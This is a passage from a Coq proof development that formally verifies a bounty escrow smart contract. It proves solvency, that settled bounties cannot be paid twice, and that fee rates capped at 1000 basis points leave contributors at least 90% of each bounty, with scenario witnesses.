  takes_transfer (currency b) (feeCollector s) s = true ->
  (0 < expiresAt b -> timestamp m <= expiresAt b) ->
  amount b * platformFeeRate s <= MAX_UINT256 ->
  amount b * contributorFeeRate s <= MAX_UINT256 ->
  platformFee <= amount b -> contributorFee <= amount b - platformFee ->
  platformFee + contributorFee <= MAX_UINT256 ->
  net <= balanceOf (balances s) (currency b) (this s) ->
  platformFee + contributorFee <= balanceOf bal1 (currency b) (this s) ->
  completeBounty m bountyId contributor s
  = Return (set_bounty bountyId (with_status COMPLETED b) bal2 s,
            [BountyCompleted bountyId contributor (amount b)
               platformFee contributorFee net]).
Proof.
  cbn zeta. intros Hs Ha Hc Ht1 Ht2 Hw Hm1 Hm2 Hl1 Hl2 Hsum Hf1 Hf2.
  unfold completeBounty.
  rewrite Hs, Z.eqb_refl, (bool_decide_eq_true_2 _ Ha).
  apply Z.eqb_neq in Hc. rewrite Hc. cbn [require bind negb].
  assert (Hw' : (if 0 <? expiresAt (getBounty bountyId s)
                 then require (timestamp m <=? expiresAt (getBounty bountyId s))
                        "Bounty expired"
                 else Return tt) = Return tt).
  { destruct (0 <? expiresAt (getBounty bountyId s)) eqn:He; [|reflexivity].
    apply Z.ltb_lt, Hw, Z.leb_le in He. rewrite He. reflexivity. }
  rewrite Hw'. cbn [bind].
  rewrite (checked_mul_ok _ _ Hm1). cbn [bind].
  rewrite (checked_mul_ok _ _ Hm2). cbn [bind].
  rewrite (checked_sub_ok _ _ Hl1). cbn [bind].
  rewrite (checked_sub_ok _ _ Hl2). cbn [bind].
  rewrite (checked_add_ok _ _ Hsum). cbn [bind].
  rewrite (pay_ok _ _ _ _ _ Ht1 Hf1). cbn [bind].
  rewrite (pay_ok _ _ _ _ _ Ht2 Hf2). cbn [bind].
  reflexivity.
Qed.

(** ** Invariants of a call *)

(** A call that returns is an upgrade only when the owner asks for it. *)
Lemma upgrade_by_owner m newImplementation data s s' :
  upgrades s (m, CallUpgradeToAndCall newImplementation data) = false ->
  exec m (CallUpgradeToAndCall newImplementation data) s = Return s' -> False.
Proof.
  intros Hup H. cbn [exec] in H.
  apply upgradeToAndCall_Return in H as (Hs & _).
  cbn in Hup. apply Z.eqb_neq in Hup. contradiction.
Qed.

Lemma exec_this m c s s' :
  upgrades s (m, c) = false -> exec m c s = Return s' -> this s' = this s.
Proof.
  intros Hup H. destruct c as [roxn usdc rel fc|amt cur expires|bountyId contributor|bountyId|newRelayer|newFc|p q|newOwner| |newImpl data|cur recipient amt|cur amt];
    cbn [exec] in H.
  - apply bind_Return in H as (? & _ & H). apply initialize_Return in H. tauto.
  - apply bind_Return in H as ([[bountyId s1] ev] & Hc & H). injection H as <-.
    apply createBounty_Return in Hc as (paid & bal & Hc). cbn. tauto.
  - apply bind_Return in H as (? & _ & H).
    apply bind_Return in H as ([s1 ev] & Hc & H). injection H as <-.
    apply completeBounty_Return in Hc as (bal1 & bal2 & Hc).
    destruct Hc as (_ & _ & _ & _ & _ & _ & _ & _ & -> & _). reflexivity.
  - apply bind_Return in H as (? & _ & H).
    apply bind_Return in H as ([s1 ev] & Hc & H). injection H as <-.
    apply refundBounty_Return in Hc as (bal & Hc).
    destruct Hc as (_ & _ & _ & _ & _ & -> & _). reflexivity.
  - apply bind_Return in H as (? & _ & H).
    apply bind_Return in H as ([s1 ev] & Hc & H). injection H as <-.
    apply setRelayer_Return in Hc. cbn. tauto.
  - apply bind_Return in H as (? & _ & H). apply setFeeCollector_Return in H. tauto.
  - apply bind_Return in H as (? & _ & H). apply setFeeRates_Return in H. tauto.
  - apply bind_Return in H as (? & _ & H).
    apply transferOwnership_Return in H as (_ & _ & ->). reflexivity.
  - apply bind_Return in H as (? & _ & H).
    apply renounceOwnership_Return in H as (_ & ->). reflexivity.
  - destruct (upgrade_by_owner _ _ _ _ _ Hup H).
  - apply bind_Return in H as (bal & _ & H). injection H as <-. reflexivity.
  - injection H as <-. reflexivity.
Qed.

Lemma well_formed_set_bounty bountyId b bal s :
  well_formed s -> 0 <= amount b -> well_formed (set_bounty bountyId b bal s).
Proof.
  intros (Hp & Hc & Hall) Hb. split; [exact Hp|]. split; [exact Hc|].
  intros k b' Hk. cbn [set_bounty bounties] in Hk.
  destruct (decide (k = bountyId)) as [->|Hne].
  - rewrite lookup_insert_eq in Hk. injection Hk as <-. exact Hb.
  - rewrite lookup_insert_ne in Hk by congruence. eauto.
Qed.

Lemma well_formed_same s s' :
  platformFeeRate s' = platformFeeRate s ->
  contributorFeeRate s' = contributorFeeRate s ->
  bounties s' = bounties s ->
  well_formed s -> well_formed s'.
Proof. unfold well_formed. intros -> -> ->. tauto. Qed.

Lemma exec_well_formed m c s s' :
  upgrades s (m, c) = false ->
  valid_call c -> well_formed s -> exec m c s = Return s' -> well_formed s'.
Proof.
  intros Hup Hvalid Hwf H.
  destruct c as [roxn usdc rel fc|amt cur expires|bountyId contributor|bountyId|newRelayer|newFc|p q|newOwner| |newImpl data|cur recipient amt|cur amt];
    cbn [exec] in H.
  - apply bind_Return in H as (? & _ & H). apply initialize_Return in H.
    destruct H as (_ & _ & _ & _ & _ & Hp & Hc & _ & Hb & _).
    destruct Hwf as (_ & _ & Hall).
    unfold well_formed. rewrite Hp, Hc, Hb. repeat split; [lia|lia|exact Hall].
  - apply bind_Return in H as ([[bountyId s1] ev] & Hc & H). injection H as <-.
    apply createBounty_Return in Hc as (paid & bal & Hc). cbn [fst snd].
    destruct Hc as (_ & Hamt & _ & _ & _ & Hb & _ & _ & _ & _ & _ & _ & _ & Hp & Hcr & _).
    destruct Hwf as (Hp0 & Hc0 & Hall).
    unfold well_formed. rewrite Hp, Hcr, Hb. split; [exact Hp0|]. split; [exact Hc0|].
    intros k b' Hk.
    destruct (decide (k = bountyId)) as [->|Hne].
    + rewrite lookup_insert_eq in Hk. injection Hk as <-. cbn. lia.
    + rewrite lookup_insert_ne in Hk by congruence. eauto.
  - apply bind_Return in H as (? & _ & H).
    apply bind_Return in H as ([s1 ev] & Hc & H). injection H as <-.
    apply completeBounty_Return in Hc as (bal1 & bal2 & Hc).
    destruct Hc as (_ & _ & _ & _ & _ & _ & _ & _ & -> & _). cbn [fst].
    apply well_formed_set_bounty; [exact Hwf|]. apply getBounty_nonneg, Hwf.
  - apply bind_Return in H as (? & _ & H).
    apply bind_Return in H as ([s1 ev] & Hc & H). injection H as <-.
    apply refundBounty_Return in Hc as (bal & Hc).
    destruct Hc as (_ & _ & _ & _ & _ & -> & _). cbn [fst].
    apply well_formed_set_bounty; [exact Hwf|]. apply getBounty_nonneg, Hwf.
  - apply bind_Return in H as (? & _ & H).
    apply bind_Return in H as ([s1 ev] & Hc & H). injection H as <-.
    apply setRelayer_Return in Hc. cbn [fst].
    apply (well_formed_same s); tauto.
  - apply bind_Return in H as (? & _ & H). apply setFeeCollector_Return in H.
    apply (well_formed_same s); tauto.
  - apply bind_Return in H as (? & _ & H). apply setFeeRates_Return in H.
    destruct H as (_ & _ & Hp & Hc & Hb & _). destruct Hwf as (_ & _ & Hall).
    cbn in Hvalid. unfold well_formed. rewrite Hp, Hc, Hb. tauto.
  - apply bind_Return in H as (? & _ & H).
    apply transferOwnership_Return in H as (_ & _ & ->). exact Hwf.
  - apply bind_Return in H as (? & _ & H).
    apply renounceOwnership_Return in H as (_ & ->). exact Hwf.
  - destruct (upgrade_by_owner _ _ _ _ _ Hup H).
  - apply bind_Return in H as (bal & _ & H). injection H as <-.
    apply (well_formed_same s); [reflexivity..|exact Hwf].
  - injection H as <-. apply (well_formed_same s); [reflexivity..|exact Hwf].
Qed.

Lemma solvent_same s s' :
  bounties s' = bounties s -> this s' = this s ->
  (forall c, balanceOf (balances s) c (this s) <= balanceOf (balances s') c (this s)) ->
  solvent s -> solvent s'.
Proof.
  intros Hb Ht Hbal Hs c. unfold escrowed. rewrite Hb, Ht.
  specialize (Hs c). specialize (Hbal c). unfold escrowed in Hs. lia.
Qed.

Lemma fees_nonneg a r : 0 <= a -> 0 <= r -> 0 <= a * r / 10000.
Proof. intros. apply Z.div_pos; nia. Qed.

Lemma exec_solvent m c s s' :
  upgrades s (m, c) = false ->
  valid_tx (this s) (m, c) -> well_formed s -> solvent s ->
  exec m c s = Return s' -> solvent s'.
Proof.
  intros Hup (Hsender & Hvalue & Hvalid) Hwf Hsolv H. cbn [fst snd] in Hsender, Hvalue, Hvalid.
  destruct c as [roxn usdc rel fc|amt cur expires|bountyId contributor|bountyId|newRelayer|newFc|p q|newOwner| |newImpl data|cur recipient amt|cur amt];
    cbn [exec] in H.
  - apply bind_Return in H as (? & _ & H). apply initialize_Return in H.
    apply (solvent_same s); try tauto.
    destruct H as (_ & _ & _ & _ & _ & _ & _ & _ & _ & -> & _). intros; lia.
  - apply bind_Return in H as ([[bountyId s1] ev] & Hc & H). injection H as <-.
    apply createBounty_Return in Hc as (paid & bal & Hc). cbn [fst snd].
    destruct Hc as (Hpaid & Hamt & _ & _ & Hcur & Hb & Hbal & _ & Ht & _).
    intros c.
    set (b := {| creator := sender m; amount := amt; currency := cur;
                 expiresAt := expires; status := ACTIVE |}) in *.
    assert (Hesc : escrowed c s1
                   = escrowed c s - locked c (getBounty bountyId s) + locked c b).
    { rewrite <- (escrowed_set_bounty c bountyId b (balances s) s).
      unfold escrowed. rewrite Hb. reflexivity. }
    pose proof (locked_nonneg c _ (getBounty_nonneg s bountyId Hwf)) as Hold.
    specialize (Hsolv c). rewrite Hesc, Ht, Hbal.
    pose proof (balanceOf_move _ _ _ _ _ _ c (this s) Hpaid) as Hp.
    assert (Hb' : locked c b = if bool_decide (cur = c) then amt else 0).
    { unfold locked, b. cbn. repeat case_bool_decide; tauto || reflexivity. }
    rewrite Hb'.
    destruct cur; destruct Hcur as [Ha Hm].
    + subst bal. rewrite Hp. destruct c; repeat case_bool_decide;
        try tauto; try congruence; try lia;
        try (exfalso; match goal with H : ~ _ |- _ => apply H; auto end).
    + pose proof (balanceOf_move _ _ _ _ _ _ c (this s) Hm) as Hq.
      rewrite Hq, Hp. destruct c; repeat case_bool_decide;
        try tauto; try congruence; try lia;
        try (exfalso; match goal with H : ~ _ |- _ => apply H; auto end).
    + pose proof (balanceOf_move _ _ _ _ _ _ c (this s) Hm) as Hq.
      rewrite Hq, Hp. destruct c; repeat case_bool_decide;
        try tauto; try congruence; try lia;
        try (exfalso; match goal with H : ~ _ |- _ => apply H; auto end).
  - apply bind_Return in H as (? & _ & H).
    apply bind_Return in H as ([s1 ev] & Hc & H). injection H as <-.
    apply completeBounty_Return in Hc as (bal1 & bal2 & Hc). cbn zeta in Hc.
    destruct Hc as (_ & Hactive & _ & _ & Hle1 & Hle2 & Hm1 & Hm2 & -> & _).
    cbn [fst]. intros c. rewrite escrowed_set_bounty.
    cbn [set_bounty this balances].
    set (b := getBounty bountyId s) in *.
    pose proof (getBounty_nonneg s bountyId Hwf) as Hamount. fold b in Hamount.
    destruct Hwf as (Hp0 & Hc0 & _).
    pose proof (fees_nonneg _ _ Hamount Hp0) as Hpf.
    pose proof (fees_nonneg _ _ Hamount Hc0) as Hcf.
    rewrite (balanceOf_move _ _ _ _ _ _ c (this s) Hm2).
    rewrite (balanceOf_move _ _ _ _ _ _ c (this s) Hm1).
    specialize (Hsolv c).
    assert (Hnew : locked c (with_status COMPLETED b) = 0).
    { unfold locked. cbn. case_bool_decide as Hx; [destruct Hx; discriminate|reflexivity]. }
    assert (Hold : locked c b = if bool_decide (currency b = c) then amount b else 0).
    { unfold locked. repeat case_bool_decide; tauto || reflexivity. }
    rewrite Hnew, Hold.
    repeat case_bool_decide; try tauto; try lia;
      try (exfalso; match goal with H : ~ _ |- _ => apply H; tauto end).
  - apply bind_Return in H as (? & _ & H).
    apply bind_Return in H as ([s1 ev] & Hc & H). injection H as <-.
    apply refundBounty_Return in Hc as (bal & Hc). cbn zeta in Hc.
    destruct Hc as (_ & Hactive & _ & _ & Hm1 & -> & _).
    cbn [fst]. intros c. rewrite escrowed_set_bounty.
    cbn [set_bounty this balances].
    set (b := getBounty bountyId s) in *.
    pose proof (getBounty_nonneg s bountyId Hwf) as Hamount. fold b in Hamount.
    rewrite (balanceOf_move _ _ _ _ _ _ c (this s) Hm1).
    specialize (Hsolv c).
    assert (Hnew : locked c (with_status REFUNDED b) = 0).
    { unfold locked. cbn. case_bool_decide as Hx; [destruct Hx; discriminate|reflexivity]. }
    assert (Hold : locked c b = if bool_decide (currency b = c) then amount b else 0).
    { unfold locked. repeat case_bool_decide; tauto || reflexivity. }
    rewrite Hnew, Hold.
    repeat case_bool_decide; try tauto; try lia;
      try (exfalso; match goal with H : ~ _ |- _ => apply H; tauto end).
  - apply bind_Return in H as (? & _ & H).
    apply bind_Return in H as ([s1 ev] & Hc & H). injection H as <-.
    apply setRelayer_Return in Hc. cbn [fst].
    apply (solvent_same s); try tauto.
    destruct Hc as (_ & _ & _ & _ & _ & _ & _ & -> & _). intros; lia.
  - apply bind_Return in H as (? & _ & H). apply setFeeCollector_Return in H.
    apply (solvent_same s); try tauto.
    destruct H as (_ & _ & _ & _ & _ & _ & -> & _). intros; lia.
  - apply bind_Return in H as (? & _ & H). apply setFeeRates_Return in H.
    apply (solvent_same s); try tauto.
    destruct H as (_ & _ & _ & _ & _ & -> & _). intros; lia.
  - apply bind_Return in H as (? & _ & H).
    apply transferOwnership_Return in H as (_ & _ & ->). exact Hsolv.
  - apply bind_Return in H as (? & _ & H).
    apply renounceOwnership_Return in H as (_ & ->). exact Hsolv.
  - destruct (upgrade_by_owner _ _ _ _ _ Hup H).
  - apply bind_Return in H as (bal & Hm & H). injection H as <-.
    apply (solvent_same s); [reflexivity|reflexivity| |exact Hsolv].
    intros c. cbn [with_balances balances].
    rewrite (balanceOf_move _ _ _ _ _ _ c (this s) Hm). cbn in Hvalid.
    repeat case_bool_decide; try tauto; lia.
  - injection H as <-.
    apply (solvent_same s); [reflexivity|reflexivity| |exact Hsolv].
    intros; cbn; lia.
Qed.

Lemma exec_fee_cap m c s s' :
  upgrades s (m, c) = false ->
  fee_cap s -> exec m c s = Return s' -> fee_cap s'.
Proof.
  unfold fee_cap. intros Hup Hcap H.
  destruct c as [roxn usdc rel fc|amt cur expires|bountyId contributor|bountyId|newRelayer|newFc|p q|newOwner| |newImpl data|cur recipient amt|cur amt];
    cbn [exec] in H.
  - apply bind_Return in H as (? & _ & H). apply initialize_Return in H.
    destruct H as (_ & _ & _ & _ & _ & -> & -> & _). lia.
  - apply bind_Return in H as ([[bountyId s1] ev] & Hc & H). injection H as <-.
    apply createBounty_Return in Hc as (paid & bal & Hc). cbn [fst snd].
    destruct Hc as (_ & _ & _ & _ & _ & _ & _ & _ & _ & _ & _ & _ & _ & -> & -> & _).
    exact Hcap.
  - apply bind_Return in H as (? & _ & H).
    apply bind_Return in H as ([s1 ev] & Hc & H). injection H as <-.
    apply completeBounty_Return in Hc as (bal1 & bal2 & Hc).
    destruct Hc as (_ & _ & _ & _ & _ & _ & _ & _ & -> & _). exact Hcap.
  - apply bind_Return in H as (? & _ & H).
    apply bind_Return in H as ([s1 ev] & Hc & H). injection H as <-.
    apply refundBounty_Return in Hc as (bal & Hc).
    destruct Hc as (_ & _ & _ & _ & _ & -> & _). exact Hcap.
  - apply bind_Return in H as (? & _ & H).
    apply bind_Return in H as ([s1 ev] & Hc & H). injection H as <-.
    apply setRelayer_Return in Hc. cbn [fst].
    destruct Hc as (_ & _ & _ & _ & -> & -> & _). exact Hcap.
  - apply bind_Return in H as (? & _ & H). apply setFeeCollector_Return in H.
    destruct H as (_ & _ & _ & -> & -> & _). exact Hcap.
  - apply bind_Return in H as (? & _ & H). apply setFeeRates_Return in H.
    destruct H as (_ & Hle & -> & -> & _). exact Hle.
  - apply bind_Return in H as (? & _ & H).
    apply transferOwnership_Return in H as (_ & _ & ->). exact Hcap.
  - apply bind_Return in H as (? & _ & H).
    apply renounceOwnership_Return in H as (_ & ->). exact Hcap.
  - destruct (upgrade_by_owner _ _ _ _ _ Hup H).
  - apply bind_Return in H as (bal & _ & H). injection H as <-. exact Hcap.
  - injection H as <-. exact Hcap.
Qed.

Lemma getBounty_set_bounty bountyId b bal s k :
  getBounty k (set_bounty bountyId b bal s)
  = if bool_decide (k = bountyId) then b else getBounty k s.
Proof.
  unfold getBounty. cbn [set_bounty bounties]. case_bool_decide as Hk.
  - subst k. rewrite lookup_insert_eq. reflexivity.
  - rewrite lookup_insert_ne by congruence. reflexivity.
Qed.

(** A bounty that is no longer active is not written by any call, as
    long as its id is below the counter. *)
Lemma exec_settled m c s s' bountyId :
  upgrades s (m, c) = false ->
  initialized s = true -> bountyId < nextBountyId s ->
  status (getBounty bountyId s) <> ACTIVE ->
  exec m c s = Return s' ->
  initialized s' = true /\ bountyId < nextBountyId s' /\
  getBounty bountyId s' = getBounty bountyId s.
Proof.
  intros Hup Hinit Hid Hst H.
  destruct c as [roxn usdc rel fc|amt cur expires|k contributor|k|newRelayer|newFc|p q|newOwner| |newImpl data|cur recipient amt|cur amt];
    cbn [exec] in H.
  - apply bind_Return in H as (? & _ & H). apply initialize_Return in H.
    destruct H as (Hfalse & _). congruence.
  - apply bind_Return in H as ([[k s1] ev] & Hc & H). injection H as <-.
    apply createBounty_Return in Hc as (paid & bal & Hc). cbn [fst snd].
    destruct Hc as (_ & _ & _ & -> & _ & Hb & _ & Hn & _ & _ & _ & _ & Hi & _).
    split; [congruence|]. split; [lia|].
    unfold getBounty. rewrite Hb, lookup_insert_ne by lia. reflexivity.
  - apply bind_Return in H as (? & _ & H).
    apply bind_Return in H as ([s1 ev] & Hc & H). injection H as <-.
    apply completeBounty_Return in Hc as (bal1 & bal2 & Hc).
    destruct Hc as (_ & Hactive & _ & _ & _ & _ & _ & _ & -> & _). cbn [fst].
    split; [exact Hinit|]. split; [exact Hid|].
    rewrite getBounty_set_bounty. case_bool_decide; [congruence|reflexivity].
  - apply bind_Return in H as (? & _ & H).
    apply bind_Return in H as ([s1 ev] & Hc & H). injection H as <-.
    apply refundBounty_Return in Hc as (bal & Hc).
    destruct Hc as (_ & Hactive & _ & _ & _ & -> & _). cbn [fst].
    split; [exact Hinit|]. split; [exact Hid|].
    rewrite getBounty_set_bounty. case_bool_decide; [congruence|reflexivity].
  - apply bind_Return in H as (? & _ & H).
    apply bind_Return in H as ([s1 ev] & Hc & H). injection H as <-.
    apply setRelayer_Return in Hc. cbn [fst].
    destruct Hc as (_ & _ & _ & _ & _ & _ & Hb & _ & Hn & _ & _ & _ & Hi).
    unfold getBounty. rewrite Hb, Hn, Hi. auto.
  - apply bind_Return in H as (? & _ & H). apply setFeeCollector_Return in H.
    destruct H as (_ & _ & _ & _ & _ & Hb & _ & Hn & _ & _ & _ & Hi).
    unfold getBounty. rewrite Hb, Hn, Hi. auto.
  - apply bind_Return in H as (? & _ & H). apply setFeeRates_Return in H.
    destruct H as (_ & _ & _ & _ & Hb & _ & Hn & _ & _ & _ & _ & Hi).
    unfold getBounty. rewrite Hb, Hn, Hi. auto.
  - apply bind_Return in H as (? & _ & H).
    apply transferOwnership_Return in H as (_ & _ & ->). auto.
  - apply bind_Return in H as (? & _ & H).
    apply renounceOwnership_Return in H as (_ & ->). auto.
  - destruct (upgrade_by_owner _ _ _ _ _ Hup H).
  - apply bind_Return in H as (bal & _ & H). injection H as <-. auto.
  - injection H as <-. auto.
Qed.

(** ** Sequences of transactions *)

Lemma apply_tx_cases s tx :
  apply_tx s tx = s \/ exec (fst tx) (snd tx) s = Return (apply_tx s tx).
Proof. unfold apply_tx. destruct (exec _ _ s); auto. Qed.

Lemma upgrades_pair s tx : upgrades s tx = upgrades s (fst tx, snd tx).
Proof. destruct tx; reflexivity. Qed.

Lemma run_this txs s : this (run txs s) = this s.
Proof.
  revert s. induction txs as [|tx txs IH]; intros s; [reflexivity|].
  cbn [run]. destruct (upgrades s tx) eqn:Hup; [reflexivity|]. rewrite IH.
  rewrite upgrades_pair in Hup.
  destruct (apply_tx_cases s tx) as [-> | H]; [reflexivity|].
  apply (exec_this _ _ _ _ Hup H).
Qed.

Lemma run_invariants txs s :
  well_formed s -> solvent s -> Forall (valid_tx (this s)) txs ->
  well_formed (run txs s) /\ solvent (run txs s).
Proof.
  revert s. induction txs as [|tx txs IH]; intros s Hwf Hsolv Hvalid; [auto|].
  cbn [run]. destruct (upgrades s tx) eqn:Hup; [auto|].
  apply Forall_cons in Hvalid as [Htx Hvalid].
  destruct (apply_tx_cases s tx) as [-> | H]; [auto|].
  destruct tx as [m c]. cbn [fst snd] in H.
  apply IH.
  - eapply exec_well_formed; [exact Hup| |exact Hwf|exact H]. apply Htx.
  - eapply exec_solvent; [exact Hup|exact Htx|exact Hwf|exact Hsolv|exact H].
  - rewrite (exec_this _ _ _ _ Hup H). exact Hvalid.
Qed.

Lemma run_fee_cap txs s :
  well_formed s -> fee_cap s -> Forall (fun tx => valid_call (snd tx)) txs ->
  well_formed (run txs s) /\ fee_cap (run txs s).
Proof.
  revert s. induction txs as [|tx txs IH]; intros s Hwf Hcap Hvalid; [auto|].
  cbn [run]. destruct (upgrades s tx) eqn:Hup; [auto|].
  rewrite upgrades_pair in Hup.
  apply Forall_cons in Hvalid as [Htx Hvalid].
  destruct (apply_tx_cases s tx) as [-> | H]; [auto|].
  apply IH; [|eapply exec_fee_cap; eassumption|exact Hvalid].
  eapply exec_well_formed; [exact Hup|exact Htx|exact Hwf|exact H].
Qed.

Lemma run_settled txs s bountyId :
  initialized s = true -> bountyId < nextBountyId s ->
  status (getBounty bountyId s) <> ACTIVE ->
  getBounty bountyId (run txs s) = getBounty bountyId s.
Proof.
  revert s. induction txs as [|tx txs IH]; intros s Hinit Hid Hst; [reflexivity|].
  cbn [run]. destruct (upgrades s tx) eqn:Hup; [reflexivity|].
  rewrite upgrades_pair in Hup.
  destruct (apply_tx_cases s tx) as [-> | H]; [auto|].
  destruct (exec_settled _ _ _ _ _ Hup Hinit Hid Hst H) as (Hi & Hn & Hb).
  rewrite IH; [exact Hb|exact Hi|exact Hn|congruence].
Qed.

(** ** Statements *)

(** X1.  Solvency.  Starting from a state in which the escrow holds at least
    what its active bounties lock in each currency, it still does after
    any sequence of transactions: calls of the contract's functions,
    declared or inherited, by any accounts, reverted or not, and transfers
    and approvals made by other accounts; the sequence is followed as
    long as this code runs, up to the first upgrade the owner asks for.
    The stored amounts and rates stay non-negative. *)
Theorem escrow_stays_solvent (txs : list (Msg * Call)) (s : State)
    (Hwf : well_formed s) (Hsolvent : solvent s)
    (Hvalid : Forall (valid_tx (this s)) txs) :
  (forall c,
     escrowed c (run txs s) <= balanceOf (balances (run txs s)) c (this s)) /\
  well_formed (run txs s).
Proof.
  destruct (run_invariants txs s Hwf Hsolvent Hvalid) as [Hwf' Hsolv'].
  split; [|exact Hwf'].
  intros c. specialize (Hsolv' c). rewrite run_this in Hsolv'. exact Hsolv'.
Qed.

Lemma well_formed_deployed : well_formed Scenarios.deployedEscrow.
Proof.
  split; [cbn; lia|]. split; [cbn; lia|].
  intros k b Hk. cbn in Hk. rewrite lookup_empty in Hk. discriminate.
Qed.

Lemma solvent_deployed : solvent Scenarios.deployedEscrow.
Proof. intros c. destruct c; vm_compute; discriminate. Qed.

Lemma lifecycle_valid : Forall (valid_tx 900) EscrowScenarios.lifecycle.
Proof.
  unfold EscrowScenarios.lifecycle, valid_tx.
  repeat constructor; cbn; lia.
Qed.

Lemma twoDeposits_invariants :
  well_formed EscrowScenarios.twoDeposits /\ solvent EscrowScenarios.twoDeposits.
Proof.
  apply run_invariants;
    [exact well_formed_deployed|exact solvent_deployed|].
  unfold EscrowScenarios.lifecycle, valid_tx. repeat constructor; cbn; lia.
Qed.

Lemma escrow_stays_solvent_witness :
  escrowed XDC (run EscrowScenarios.lifecycle Scenarios.deployedEscrow)
  <= balanceOf (balances (run EscrowScenarios.lifecycle Scenarios.deployedEscrow))
       XDC 900.
Proof.
  exact (proj1 (escrow_stays_solvent EscrowScenarios.lifecycle
                  Scenarios.deployedEscrow well_formed_deployed solvent_deployed
                  lifecycle_valid) XDC).
Defined.

(** X2.  No second payment.  Once a bounty that was created has been completed
    or refunded, it is not written again, whatever transactions follow
    while this code runs:
    it stays as it is, and every later [completeBounty] or [refundBounty]
    on its id reverts, with "Bounty not active" when the caller is the
    relayer or the creator. *)
Theorem settled_bounty_stays_settled (txs : list (Msg * Call)) (s : State)
    (bountyId : Z)
    (Hinitialized : initialized s = true)
    (Hcreated : bountyId < nextBountyId s)
    (Hsettled : status (getBounty bountyId s) <> ACTIVE) :
  let s' := run txs s in
  getBounty bountyId s' = getBounty bountyId s /\
  (forall now, isBountyClaimable now bountyId s' = false) /\
  (forall m contributor,
     exists reason, completeBounty m bountyId contributor s' = Revert reason) /\
  (forall m, exists reason, refundBounty m bountyId s' = Revert reason) /\
  (forall m contributor,
     sender m = relayer s' ->
     completeBounty m bountyId contributor s' = Revert "Bounty not active") /\
  (forall m,
     sender m = creator (getBounty bountyId s') ->
     refundBounty m bountyId s' = Revert "Bounty not active").
Proof.
  cbn zeta. pose proof (run_settled txs s bountyId Hinitialized Hcreated Hsettled) as Hsame.
  set (s' := run txs s) in *.
  assert (Hinactive : bool_decide (status (getBounty bountyId s') = ACTIVE) = false).
  { apply bool_decide_eq_false. rewrite Hsame. exact Hsettled. }
  split; [exact Hsame|]. split.
  { intros now. unfold isBountyClaimable. rewrite Hinactive. reflexivity. }
  split.
  { intros m contributor. unfold completeBounty.
    destruct (sender m =? relayer s'); cbn; [|eauto].
    rewrite Hinactive. cbn. eauto. }
  split.
  { intros m. unfold refundBounty.
    destruct (sender m =? creator (getBounty bountyId s')); cbn; [|eauto].
    rewrite Hinactive. cbn. eauto. }
  split.
  - intros m contributor Hm. unfold completeBounty.
    rewrite Hm, Z.eqb_refl. cbn. rewrite Hinactive. reflexivity.
  - intros m Hm. unfold refundBounty.
    rewrite Hm, Z.eqb_refl. cbn. rewrite Hinactive. reflexivity.
Qed.

Lemma settled_bounty_stays_settled_witness :
  let completed := run (firstn 4 EscrowScenarios.lifecycle) Scenarios.deployedEscrow in
  let later := run (skipn 4 EscrowScenarios.lifecycle ++ EscrowScenarios.adminChanges)
                 completed in
  status (getBounty 1 completed) = COMPLETED /\
  getBounty 1 later = getBounty 1 completed /\
  completeBounty (EscrowScenarios.msg 778 0 500) 1 401 later
  = Revert "Bounty not active".
Proof.
  cbn zeta.
  set (completed := run (firstn 4 EscrowScenarios.lifecycle) Scenarios.deployedEscrow).
  assert (Hinit : initialized completed = true) by (vm_compute; reflexivity).
  assert (Hid : 1 < nextBountyId completed) by (vm_compute; reflexivity).
  assert (Hst : status (getBounty 1 completed) <> ACTIVE) by (vm_compute; discriminate).
  pose proof (settled_bounty_stays_settled
                (skipn 4 EscrowScenarios.lifecycle ++ EscrowScenarios.adminChanges)
                completed 1 Hinit Hid Hst) as H.
  cbn zeta in H. destruct H as (Hsame & _ & _ & _ & Hrelayer & _).
  split; [vm_compute; reflexivity|]. split; [exact Hsame|].
  apply Hrelayer. vm_compute. reflexivity.
Defined.

(** X3.  The fee cap.  Once the two rates sum to at most 1000 basis points, as
    after [initialize] (50 + 50), they do so after any sequence of
    transactions, [setFeeRates] and the inherited calls included, while
    this code runs; whenever [completeBounty] then
    returns, what it sends to the contributor and to the fee collector adds
    up to the escrowed amount, and the contributor receives at least 90%
    of it. *)
Theorem contributor_receives_at_least_90_percent
    (txs : list (Msg * Call)) (s s' : State) (m : Msg) (bountyId : Z)
    (contributor : address) (events : list Event)
    (Hwf : well_formed s) (Hcap : fee_cap s)
    (Hvalid : Forall (fun tx => valid_call (snd tx)) txs)
    (Hcompleted : completeBounty m bountyId contributor (run txs s)
                  = Return (s', events)) :
  platformFeeRate (run txs s) + contributorFeeRate (run txs s) <= 1000 /\
  exists escrowed platformFee contributorFee net,
    events = [BountyCompleted bountyId contributor escrowed platformFee
                contributorFee net] /\
    net + platformFee + contributorFee = escrowed /\
    0 <= platformFee /\ 0 <= contributorFee /\
    9 * escrowed <= 10 * net.
Proof.
  destruct (run_fee_cap txs s Hwf Hcap Hvalid) as [Hwf' Hcap'].
  split; [exact Hcap'|].
  apply completeBounty_Return in Hcompleted as (bal1 & bal2 & H). cbn zeta in H.
  destruct H as (_ & _ & _ & _ & _ & _ & _ & _ & _ & ->).
  set (r := run txs s) in *.
  pose proof (getBounty_nonneg r bountyId Hwf') as Ha.
  destruct Hwf' as (Hp & Hc & _). unfold fee_cap in Hcap'.
  do 4 eexists. split; [reflexivity|].
  pose proof (fees_nonneg _ _ Ha Hp). pose proof (fees_nonneg _ _ Ha Hc).
  split; [lia|]. split; [assumption|]. split; [assumption|].
  set (a := amount (getBounty bountyId r)) in *.
  set (p := platformFeeRate r) in *. set (c := contributorFeeRate r) in *.
  assert (a * p / 10000 + a * c / 10000 <= a * (p + c) / 10000).
  { Z.div_mod_to_equations. nia. }
  assert (a * (p + c) / 10000 <= a * 1000 / 10000).
  { apply Z.div_le_mono; nia. }
  assert (10 * (a * 1000 / 10000) <= a).
  { Z.div_mod_to_equations. lia. }
  lia.
Qed.

Lemma contributor_receives_at_least_90_percent_witness :
  let s := run (firstn 3 EscrowScenarios.lifecycle) Scenarios.deployedEscrow in
  exists s',
    completeBounty (EscrowScenarios.msg 778 0 500) 1 401
      (run EscrowScenarios.adminChanges s)
    = Return (s', [BountyCompleted 1 401 102500000000000000000
                     6150000000000000000 4100000000000000000
                     92250000000000000000]) /\
    platformFeeRate (run EscrowScenarios.adminChanges s)
    + contributorFeeRate (run EscrowScenarios.adminChanges s) <= 1000.
Proof.
  cbn zeta.
  set (s := run (firstn 3 EscrowScenarios.lifecycle) Scenarios.deployedEscrow).
  destruct (completeBounty (EscrowScenarios.msg 778 0 500) 1 401
